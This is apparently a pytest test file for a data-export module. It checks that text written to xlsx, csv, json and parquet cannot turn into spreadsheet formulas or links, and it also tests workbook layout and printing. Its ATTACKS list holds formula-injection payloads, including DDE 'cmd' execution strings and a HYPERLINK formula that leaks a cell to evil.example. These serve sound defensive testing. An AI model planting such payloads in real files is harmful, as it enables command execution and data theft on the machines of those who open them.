"""Whatever stands in a frame comes out of every format unharmed, and harmless."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import zipfile
from datetime import UTC, date, datetime
from pathlib import Path

import openpyxl
import polars as pl
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from etl.export import FORMATS, XLSX_MAX_TEXT, About, Column, Sheet, harmless, write, write_workbook

ATTACKS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "%0A-3+3+cmd|' /C calc'!D2",
    "|calc",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "\x0b=1+1",
    '"=1+1',
    "'=1+1",
    "''=1+1",
    "＝1+1",
    "＠SUM(1)",
    "{=1+1}",
    "https://evil.example",
    "mailto:x@evil.example",
    "internal:Sheet1!A1",
    "external:c:\\x.xlsx",
    "_x0041_",
    "_x003D_1+1",
    "a\r\nb",
)
PLAIN = ("-", "–", "-5", "-3,75", "-1.234,5 %", "12", "3/81", "Xã Như Xuân", "", "'", "’tis")
TEXTS = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\ufffe\uffff"))
DANGEROUS = frozenset("=+-@|%\t\r\n＝＋－＠")


def xlsx_cells(data: bytes) -> list[list[openpyxl.cell.Cell]]:  # type: ignore[name-defined]
    return [list(row) for row in openpyxl.load_workbook(io.BytesIO(data)).worksheets[0].iter_rows()]


def xlsx_texts(data: bytes) -> list[list[object]]:
    """As Excel shows them; this reader knows that `_xHHHH_` stands for a letter that XML cannot hold."""
    return CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0).to_python(skip_empty_area=False)


def csv_rows(data: bytes, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def taken_back(text: str) -> str:
    """The text that stood in the frame: one apostrophe is ours if it guards something."""
    return text[1:] if text.startswith("'") and harmless(text[1:]) == text else text


def is_harmless(text: str) -> bool:
    """A cell of a csv file that no spreadsheet takes for a formula: by its first letter, or as a number or dash."""
    return text[:1] not in DANGEROUS or bool(re.fullmatch(r"[-–%]|-\d[\d.,]*\s?%?", text))


def test_a_measure_unit_stays_as_it_is() -> None:
    assert (harmless("%"), harmless("%A1"), harmless("% của tổng")) == ("%", "'%A1", "'% của tổng")


@pytest.mark.parametrize("text", [*ATTACKS, *PLAIN])
def test_no_text_becomes_a_formula_or_a_link_in_xlsx(text: str) -> None:
    data = write(pl.DataFrame({text or "leer": [text]}), "xlsx", About(text, ((text, text),), text, text))
    cells = [cell for row in xlsx_cells(data) for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "n"}
    assert [cell for cell in cells if cell.data_type == "n" and cell.value is not None] == []
    assert [cell for cell in cells if cell.hyperlink] == []
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        sheet = package.read("xl/worksheets/sheet1.xml")
        assert b"<f>" not in sheet
        assert b"<hyperlink" not in sheet
        assert not [name for name in package.namelist() if "externalLink" in name or "sheet1.xml.rels" in name]


@settings(deadline=None, max_examples=150)
@given(st.lists(TEXTS, max_size=5))
@example([*ATTACKS, *PLAIN])
def test_text_comes_back_from_xlsx(texts: list[str]) -> None:
    frame = pl.DataFrame({"a": texts, "row": ["x"] * len(texts)}, schema={"a": pl.String, "row": pl.String})
    data = write(frame, "xlsx")
    assert {cell.data_type for row in xlsx_cells(data) for cell in row} <= {"s", "n"}
    assert xlsx_texts(data) == [["a", "row"], *([text, "x"] for text in texts)]


@settings(deadline=None, max_examples=150)
@given(st.lists(TEXTS, min_size=1, max_size=5))
@example(list(ATTACKS))
@example(list(PLAIN))
def test_text_comes_back_from_csv_and_is_harmless_there(texts: list[str]) -> None:
    frame = pl.DataFrame({"a": texts, "b": texts}, schema={"a": pl.String, "b": pl.String})
    for for_excel, delimiter in ((False, ","), (True, ";")):
        header, *rows = csv_rows(write(frame, "csv", for_excel=for_excel), delimiter)
        assert header == ["a", "b"]
        assert [[taken_back(cell) for cell in row] for row in rows] == [[text, text] for text in texts]
        assert [cell for row in rows for cell in row if not is_harmless(cell)] == []


@settings(deadline=None, max_examples=150)
@given(TEXTS)
def test_being_made_harmless_can_be_undone(text: str) -> None:
    for word in (text, f"'{text}", f"={text}", f"'={text}"):
        assert taken_back(harmless(word)) == word


def test_lists_are_joined_and_made_harmless() -> None:
    frame = pl.DataFrame(
        {"units": [["16174", "14797"], ["=1+1", "b"], [None, "a"], [], None], "n": [[1, 2], [-1], [], None, [3]]}
    )
    assert csv_rows(write(frame, "csv")) == [
        ["units", "n"],
        ["16174|14797", "1|2"],
        ["'=1+1|b", "-1"],
        ["a", ""],
        ["", ""],
        ["", "3"],
    ]
    shown = [[cell.value or None for cell in row] for row in xlsx_cells(write(frame, "xlsx"))[1:]]
    assert shown == [["16174, 14797", "1, 2"], ["=1+1, b", "-1"], ["a", None], [None, None], [None, "3"]]


def test_headers_are_harmless_too() -> None:
    assert csv_rows(write(pl.DataFrame({"=1+1": [1]}), "csv")) == [["'=1+1"], ["1"]]


def test_a_range_stands_as_text_and_numbers_stay_numbers() -> None:
    frame = pl.DataFrame({"value": [3.703704, 40.0, None], "value_to": [None, 50.5, None]})
    assert csv_rows(write(frame, "csv")) == [["value"], ["3.703704"], ["40..50.5"], []]
    assert json.loads(write(frame, "json")) == [{"value": 3.703704}, {"value": "40..50.5"}, {"value": None}]
    without = pl.DataFrame({"value": [3.5], "value_to": [None]}, schema={"value": pl.Float64, "value_to": pl.Float64})
    assert csv_rows(write(without, "csv")) == [["value"], ["3.5"]]


@pytest.mark.parametrize("file_format", FORMATS)
def test_an_empty_frame_gives_a_file_with_its_header(file_format: str) -> None:
    types = {"unit": pl.String, "on": pl.Date, "units": pl.List(pl.String), "value": pl.Float64, "value_to": pl.Float64}
    data = write(pl.DataFrame(schema=types), file_format, About("Tiến Độ Số"))
    if file_format == "csv":
        assert csv_rows(data) == [["unit", "on", "units", "value"]]
    elif file_format == "xlsx":
        shown = [[cell.value for cell in row] for row in xlsx_cells(data)]
        assert shown[0][0] == "Tiến Độ Số"
        assert shown[-1] == ["unit", "on", "units", "value", "value_to"]
    elif file_format == "parquet":
        assert pl.read_parquet(io.BytesIO(data)).schema == types
    else:
        assert json.loads(data) == []


def test_values_that_a_worksheet_cannot_hold_become_blank_or_text() -> None:
    frame = pl.DataFrame(
        {
            "number": [1.5, float("nan"), float("inf"), 1e300],
            "count": [1, 2**53 + 1, -(2**60), 0],
            "day": [date(2026, 3, 14), date(1500, 1, 1), None, date(9999, 12, 31)],
            "moment": [datetime(2026, 3, 14, 7, 30, tzinfo=UTC)] * 4,
        }
    )
    header, *rows = [[cell.value for cell in row] for row in xlsx_cells(write(frame, "xlsx"))]
    moment = datetime.fromisoformat("2026-03-14T07:30")
    assert header == frame.columns
    assert rows == [
        [1.5, 1, datetime.fromisoformat("2026-03-14"), moment],
        [None, str(2**53 + 1), "1500-01-01", moment],
        ["inf", str(-(2**60)), None, moment],
        ["1e+300", 0, datetime.fromisoformat("9999-12-31"), moment],
    ]


@pytest.mark.parametrize("letter", ["a", "đ", "😀"])
def test_a_text_too_long_for_a_cell_ends_visibly(letter: str) -> None:
    ((cell,),) = xlsx_cells(write(pl.DataFrame({"a": [letter * 40_000]}), "xlsx"))[1:]
    assert len(cell.value.encode("utf-16-le")) <= 2 * XLSX_MAX_TEXT
    assert cell.value.rstrip("…").strip(letter) == ""
    assert cell.value.endswith("…")
    assert csv_rows(write(pl.DataFrame({"a": [letter * 40_000]}), "csv"))[1] == [letter * 40_000]


def test_csv_for_excel_opens_by_a_double_click() -> None:
    data = write(pl.DataFrame({"a": ["đ;đ"], "b": [1.5]}), "csv", for_excel=True)
    assert data == b'\xef\xbb\xbfa;b\n"\xc4\x91;\xc4\x91";1,5\n'


def test_another_format_is_refused() -> None:
    with pytest.raises(ValueError, match="docx"):
        write(pl.DataFrame(), "docx")


# ---------------------------------------------------------------- a workbook for people

ABOUT = About(
    "Chỉ tiêu của xã, phường",
    (("Tỉnh", "Thanh Hóa"), ("Quý", "Quý II/2026")),
    "02/10/2026",
    "Báo cáo của các đơn vị",
    "v00000007",
    "http://127.0.0.1:8501/khai_thac?tinh=38",
)
FIGURES = pl.DataFrame(
    {
        "unit": ["Xã Ẩm Thực", "=1+1", "+84", "@x"],
        "n": [1038.0, 3.0, None, 0.0],
        "value": [1234.5678, 3.7037, None, 0.0],
        "decimals": [2, 1, 1, 0],
        "status": ["● Đạt", "■ Chậm", "▨ Chưa báo cáo", "<r>&</r>"],
        "due": [date(2026, 3, 16), None, None, date(2026, 6, 16)],
        "year": [2026, 2026, 2025, 2025],
    }
)
FILLS = {"● Đạt": ("#12436D", "#FFFFFF"), "■ Chậm": ("#A31D2A", "#FFFFFF")}
COLUMNS = {
    "unit": Column("Đơn vị"),
    "n": Column("Số thực hiện", decimals=0),
    "value": Column("Giá trị", "%", "decimals"),
    "status": Column("Trạng thái", fills=FILLS),
    "due": Column("Thời hạn"),
    "year": Column("Năm"),
}


def workbook(*sheets: Sheet) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(write_workbook(sheets, ABOUT)))


def test_a_workbook_holds_the_values_of_its_frame_under_headings_with_units() -> None:
    sheet = workbook(Sheet("Số liệu", FIGURES, COLUMNS)).worksheets[0]
    rows = list(sheet.iter_rows(min_row=5))
    assert [cell.value for cell in rows[0]] == [
        "Đơn vị",
        "Số thực hiện",
        "Giá trị (%)",
        "Trạng thái",
        "Thời hạn",
        "Năm",
    ]
    shown = FIGURES.select(list(COLUMNS)).rows()
    read = [
        tuple(cell.value.date() if isinstance(cell.value, datetime) else cell.value for cell in row) for row in rows[1:]
    ]
    assert read == shown
    looks = [row[2].number_format for row in rows[1:] if row[2].value is not None]
    assert looks == ["[$-42A]#,##0.00", "[$-42A]#,##0.0", "[$-42A]#,##0"]
    assert [row[1].number_format for row in rows[1:] if row[1].value is not None] == ["[$-42A]#,##0"] * 3
    assert {row[5].number_format for row in rows[1:]} == {"General"}
    assert {row[0].data_type for row in rows[1:]} == {"s"}
    assert rows[1][4].number_format == "dd/mm/yyyy"


def test_a_workbook_says_what_it_is_and_prints_on_a4_with_its_header_on_every_page() -> None:
    book = workbook(Sheet("Số liệu", FIGURES, COLUMNS))
    sheet = book.worksheets[0]
    assert [sheet.cell(row, 1).value for row in range(1, 5)] == [
        "Chỉ tiêu của xã, phường",
        "Tỉnh: Thanh Hóa · Quý: Quý II/2026",
        "Nguồn: Báo cáo của các đơn vị · Số liệu tính đến ngày 02/10/2026 · phiên bản v00000007",
        "http://127.0.0.1:8501/khai_thac?tinh=38",
    ]
    assert sheet.freeze_panes == "A6"
    assert (sheet.page_setup.orientation, sheet.page_setup.paperSize) == ("landscape", 9)
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert sheet.page_setup.fitToHeight == 0
    assert sheet.print_title_rows == "$5:$5"
    assert sheet.auto_filter.ref == "A5:F9"


def test_a_status_has_its_colours() -> None:
    rows = list(workbook(Sheet("Số liệu", FIGURES, COLUMNS)).worksheets[0].iter_rows(min_row=6))
    painted = {row[3].value: (row[3].fill.fgColor.rgb, row[3].font.color.rgb) for row in rows if row[3].fill.fill_type}
    assert painted == {"● Đạt": ("FF12436D", "FFFFFFFF"), "■ Chậm": ("FFA31D2A", "FFFFFFFF")}


def test_sheets_of_one_workbook_bear_names_that_excel_takes() -> None:
    wished = ["Chỉ tiêu: [VB01]/x", "chỉ tiêu   vb01  x", "History", "", "a" * 40, "A" * 40, "'x'"]
    names = workbook(*(Sheet(name, FIGURES) for name in wished)).sheetnames
    assert len({name.casefold() for name in names}) == len(wished)
    assert [name for name in names if len(name) > 31 or re.search(r"[\[\]:*?/\\]|^'|'$", name)] == []
    assert "history" not in {name.casefold() for name in names}


def test_a_table_too_wide_for_a_page_takes_more_and_repeats_its_first_columns() -> None:
    wide = pl.DataFrame({f"c{place}": ["Xã Hoằng Hóa " * 2] for place in range(30)})
    sheet = workbook(Sheet("Ngang", wide, {name: Column(name) for name in wide.columns}, fixed=2)).worksheets[0]
    assert sheet.page_setup.fitToWidth > 1
    assert sheet.print_title_cols == "$A:$B"
    assert sheet.freeze_panes == "C6"


def test_rows_are_as_high_as_their_longest_text_needs() -> None:
    frame = pl.DataFrame({"a": ["ngắn", "chữ " * 60, "một\nhai"]})
    sheet = workbook(Sheet("Cao", frame, {"a": Column("a")})).worksheets[0]
    first, long, broken = (sheet.row_dimensions[row].height for row in (6, 7, 8))
    assert first is None
    assert long > 3 * 15
    assert broken > 2 * 15


def test_progress_is_told_up_to_the_last_row() -> None:
    told: list[tuple[int, int]] = []
    frame = pl.DataFrame({"a": range(5_000)})
    write_workbook([Sheet("a", frame), Sheet("b", frame)], ABOUT, lambda done, of: told.append((done, of)))
    assert told == [(2_000, 10_000), (4_000, 10_000), (7_000, 10_000), (9_000, 10_000), (10_000, 10_000)]


def test_an_empty_workbook_is_a_workbook() -> None:
    assert workbook(Sheet("Trống", FIGURES.clear(), COLUMNS)).worksheets[0].max_row == 5
    assert workbook(Sheet("Trống", pl.DataFrame())).worksheets[0].max_row == 4


def test_csv_for_excel_writes_numbers_and_days_as_people_here_do_and_cites_in_a_last_empty_column() -> None:
    frame = FIGURES.select("unit", "value", "due").with_columns(value_to=pl.Series([None, 4.5, None, None]))
    rows = csv_rows(write(frame, "csv", ABOUT, for_excel=True), ";")
    assert rows[:3] == [
        ["unit", "value", "due", f"{ABOUT.citation} · {ABOUT.link}"],
        ["Xã Ẩm Thực", "1234,5678", "16/03/2026", ""],
        ["'=1+1", "3,7037..4,5", "", ""],
    ]
    assert len(rows) == 1 + FIGURES.height
    assert csv_rows(write(frame.clear(), "csv", ABOUT, for_excel=True), ";") == rows[:1]


def test_parquet_knows_its_citation() -> None:
    data = write(FIGURES, "parquet", ABOUT)
    assert pl.read_parquet(io.BytesIO(data)).equals(FIGURES)
    told = pl.read_parquet_metadata(io.BytesIO(data))
    assert told["citation"] == ABOUT.citation
    assert (told["link"], told["version"], told["as_of"]) == (ABOUT.link, "v00000007", "02/10/2026")
    assert told["filters"] == "Tỉnh: Thanh Hóa; Quý: Quý II/2026"


def test_libreoffice_prints_a_workbook_with_its_header_on_every_page(tmp_path: Path) -> None:
    frame = pl.concat([FIGURES] * 40)
    source = tmp_path / "xuat.xlsx"
    source.write_bytes(write_workbook([Sheet("Số liệu", frame, COLUMNS), Sheet("Nguồn", FIGURES)], ABOUT))
    command = ["soffice", f"-env:UserInstallation=file://{tmp_path}/profile", "--headless", "--convert-to", "pdf"]
    subprocess.run([*command, "--outdir", str(tmp_path), str(source)], check=True, capture_output=True, timeout=120)
    pages = subprocess.run(["pdftotext", "-layout", str(tmp_path / "xuat.pdf"), "-"], check=True, capture_output=True)
    printed = pages.stdout.decode().split("\f")[:-1]
    assert len(printed) >= 4
    assert [page for page in printed[:-1] if "Giá trị (%)" not in page] == []
    assert "Err:" not in pages.stdout.decode()
    assert {"1.038", "1.234,57"} <= set(printed[0].split())


def test_small_whole_numbers_are_numbers_too() -> None:
    frame = pl.DataFrame({"n": [1, None, 200]}, schema={"n": pl.Int16})
    assert [row[0].value for row in workbook(Sheet("a", frame)).worksheets[0].iter_rows(min_row=6)] == [1, None, 200]
